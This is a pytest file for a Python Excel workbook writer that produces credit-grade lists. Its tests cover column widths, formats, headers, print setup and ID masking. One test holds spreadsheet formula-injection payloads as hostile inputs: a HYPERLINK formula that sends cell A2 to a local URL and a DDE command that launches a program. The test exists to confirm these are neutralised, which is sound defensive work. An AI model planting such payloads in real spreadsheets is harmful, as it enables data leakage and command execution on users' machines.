"""The one workbook writer (scoring.core.workbook), read back with openpyxl: widths from the content
(CJK counted double, long text capped and wrapped), formats by column kind, frozen styled header,
print setup, and no cell that can act as a formula."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter

from scoring.core.errors import DataError
from scoring.core.workbook import MAX_WIDTH, Sheet, infer_kind, notes_sheet, text_width, workbook_bytes, write_workbook

HOSTILE = ['=HYPERLINK("http://127.0.0.1:9/x?"&A2,"点击")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1"]
LONG_REASON = "近12个月行政处罚加权累计达6次，高于行业中位数0次" * 5  # 130+ characters, CJK


def _widths(ws) -> dict[str, float]:
    """Column letter -> width (openpyxl groups equal neighbouring columns into one range)."""
    out = {}
    for dim in ws.column_dimensions.values():
        if dim.width is None or dim.min is None:
            continue
        for i in range(dim.min, dim.max + 1):
            out[get_column_letter(i)] = dim.width
    return out


def _book(sheets) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(workbook_bytes(sheets)))


def _frame(n: int = 6) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "统一社会信用代码": ["00123456789012345X", "913307000000000001"] * (n // 2),
            "名称": ["金华市某某建筑工程有限公司", "ab"] * (n // 2),
            "信用等级": ["良好", "差"] * (n // 2),
            "p_优秀": [0.650528, 0.01] * (n // 2),
            "sampling_ratio": [0.25, 0.6] * (n // 2),
            "as_of": ["2026-06-30"] * n,
            "主体数": list(range(n)),
            "原因": [LONG_REASON, "短"] * (n // 2),
            "新设主体": [True, False] * (n // 2),
            "得分": [75.31, 80.5] * (n // 2),
        }
    )


def test_text_width_counts_wide_characters_double():
    assert text_width("abc") == 3
    assert text_width("信用等级") == 8
    assert text_width("ＡＢ1") == 5  # full-width letters count 2
    assert text_width("第一行\n更长的第二行") == 12


def test_widths_follow_the_content_and_long_text_wraps():
    wb = _book([Sheet("名单", _frame(), kinds={"统一社会信用代码": "code"}, key_columns=3)])
    ws = wb["名单"]
    w = _widths(ws)
    # every column has a width (not only the first two) and a wider content gives a wider column
    assert set("ABCDEFGHIJ") <= set(w)
    assert w["B"] >= text_width("金华市某某建筑工程有限公司") and w["B"] > w["C"]
    assert w["A"] >= 18
    # the long reason is capped and wrapped, the short columns are not wrapped
    assert w["H"] <= MAX_WIDTH + 1 and ws["H2"].alignment.wrap_text
    assert not ws["C2"].alignment.wrap_text


def test_formats_by_kind_and_inferred():
    ws = _book([Sheet("名单", _frame(), kinds={"统一社会信用代码": "code"})])["名单"]
    header = [c.value for c in ws[1]]
    col = {h: get_column_letter(i + 1) for i, h in enumerate(header)}
    assert ws[f"{col['p_优秀']}2"].number_format == "0.0%" and ws[f"{col['p_优秀']}2"].value == pytest.approx(0.650528)
    assert ws[f"{col['sampling_ratio']}2"].number_format == "0%"  # 25%: whole percents without decimals
    d = ws[f"{col['as_of']}2"]
    assert d.is_date and d.value == dt.datetime(2026, 6, 30) and d.number_format == "yyyy-mm-dd"
    assert ws[f"{col['主体数']}3"].value == 1 and ws[f"{col['主体数']}3"].number_format == "#,##0"
    assert ws[f"{col['得分']}2"].number_format == "#,##0.00"
    # a code stays text (leading zeros kept), booleans read 是/否
    assert ws[f"{col['统一社会信用代码']}2"].value == "00123456789012345X"
    assert ws[f"{col['统一社会信用代码']}2"].data_type == "s" and ws[f"{col['统一社会信用代码']}2"].number_format == "@"
    assert [ws[f"{col['新设主体']}{r}"].value for r in (2, 3)] == ["是", "否"]


def test_kind_inference():
    assert infer_kind("p_良好", pd.Series([0.1])) == "prob"
    assert infer_kind("目标占比", pd.Series([0.1])) == "percent"
    assert infer_kind("band_share", pd.Series([0.1])) == "percent"
    assert infer_kind("score", pd.Series([0.1])) == "float"
    assert infer_kind("n", pd.Series([1, 2])) == "int"
    assert infer_kind("registered_on", pd.Series(["2020-01-01", None])) == "date"
    assert infer_kind("name", pd.Series(["2020-01-01"])) == "text"  # a date-like name only when named so
    assert infer_kind("flag", pd.Series([True, False])) == "bool"
    assert infer_kind("at", pd.Series(pd.to_datetime(["2026-01-01 10:00"]))) == "datetime"
    assert infer_kind("day", pd.Series([dt.date(2026, 1, 1)])) == "date"


def test_header_is_bold_filled_frozen_and_filtered_and_the_page_is_set_up():
    ws = _book([Sheet("名单", _frame(), key_columns=3, title="建筑施工企业信用等级名单")])["名单"]
    assert ws["A1"].value == "建筑施工企业信用等级名单" and ws["A1"].font.b
    head = ws["A2"]
    assert head.value == "统一社会信用代码" and head.font.b and head.fill.fgColor.rgb.endswith("DDEBF7")
    assert ws.freeze_panes == "D3"  # below the title and header, right of code, name, grade
    assert ws.auto_filter.ref.startswith("A2:")
    ps = ws.page_setup
    assert ps.orientation == "landscape" and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ps.fitToWidth in (None, 1) and ps.fitToHeight == 0  # one page wide, as tall as needed
    assert ws.print_title_rows == "$1:$2" and ws.print_title_cols == "$A:$C"
    assert "建筑施工企业信用等级名单" in ws.oddHeader.center.text and "&P" in ws.oddFooter.center.text


def test_no_cell_is_a_formula_and_formula_like_text_is_quoted(tmp_path):
    df = pd.DataFrame({"=名称": HOSTILE, "n": range(len(HOSTILE)), "x": ["\x1b[31m红\x1b[0m"] * len(HOSTILE)})
    path = tmp_path / "h.xlsx"
    write_workbook(path, [Sheet("=名单", df, title="=1+1"), notes_sheet({"=k": "=v"})])
    with zipfile.ZipFile(path) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/"):
                xml = z.read(n)
                assert b"<f>" not in xml and b"<f " not in xml, n
    wb = openpyxl.load_workbook(path)
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate)
                if isinstance(c.value, str):
                    seen.append(c.value)
                    if c.value.lstrip()[:1] in ("=", "+", "-", "@"):
                        assert c.quotePrefix, (ws.title, c.coordinate, c.value)
                    assert "\x1b" not in c.value
    assert {HOSTILE[0], HOSTILE[1], "红"} <= set(seen)


def test_no_raw_id_number_leaves_in_a_workbook():
    raw = "11010519491231002X"  # a valid GB 11643 number
    df = pd.DataFrame({"备注": [f"法定代表人 {raw}"], "统一社会信用代码": ["91350200776049653A"]})
    ws = _book([Sheet("t", df, kinds={"统一社会信用代码": "code"})])["t"]
    assert raw not in ws["A2"].value and ws["A2"].value.startswith("法定代表人 110")
    assert ws["B2"].value == "91350200776049653A"  # a valid USCC is not an ID number


def test_notes_sheet_and_bytes_and_errors(tmp_path):
    items = {"发布编号": "grade_list-x", "免责声明": "评价结果仅用于分级分类监管" * 10}
    ws = _book([notes_sheet(items)])["说明"]
    assert [tuple(r) for r in ws.iter_rows(values_only=True)] == [("项目", "内容"), *items.items()]
    assert ws["B3"].alignment.wrap_text and ws.page_setup.orientation == "portrait"
    with pytest.raises(DataError):
        workbook_bytes([])
    with pytest.raises(DataError, match="kind"):
        workbook_bytes([Sheet("x", _frame(), kinds={"名称": "money"})])
    # missing values are blank, not "nan"; sheet names are made valid and unique
    df = pd.DataFrame({"a": [np.nan, 1.0], "b": [None, "x"], "d": [pd.NaT, pd.Timestamp("2026-01-02")]})
    wb = _book([Sheet("a/b:c", df), Sheet("a/b:c", df)])
    assert wb.sheetnames == ["a_b_c", "a_b_c_2"]
    assert wb["a_b_c"]["A2"].value is None and wb["a_b_c"]["B2"].value is None and wb["a_b_c"]["C2"].value is None


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(min_size=0, max_size=80), min_size=1, max_size=12))
def test_any_text_stays_text_and_the_width_is_capped(texts):
    wb = _book([Sheet("t", pd.DataFrame({"文本": texts}))])
    ws = wb["t"]
    w = _widths(ws)["A"]
    assert w <= MAX_WIDTH + 1
    for c in ws["A"][1:]:
        assert c.data_type in ("s", "n")  # a string cell or a blank, never a formula
        if c.data_type == "n":
            assert c.value is None
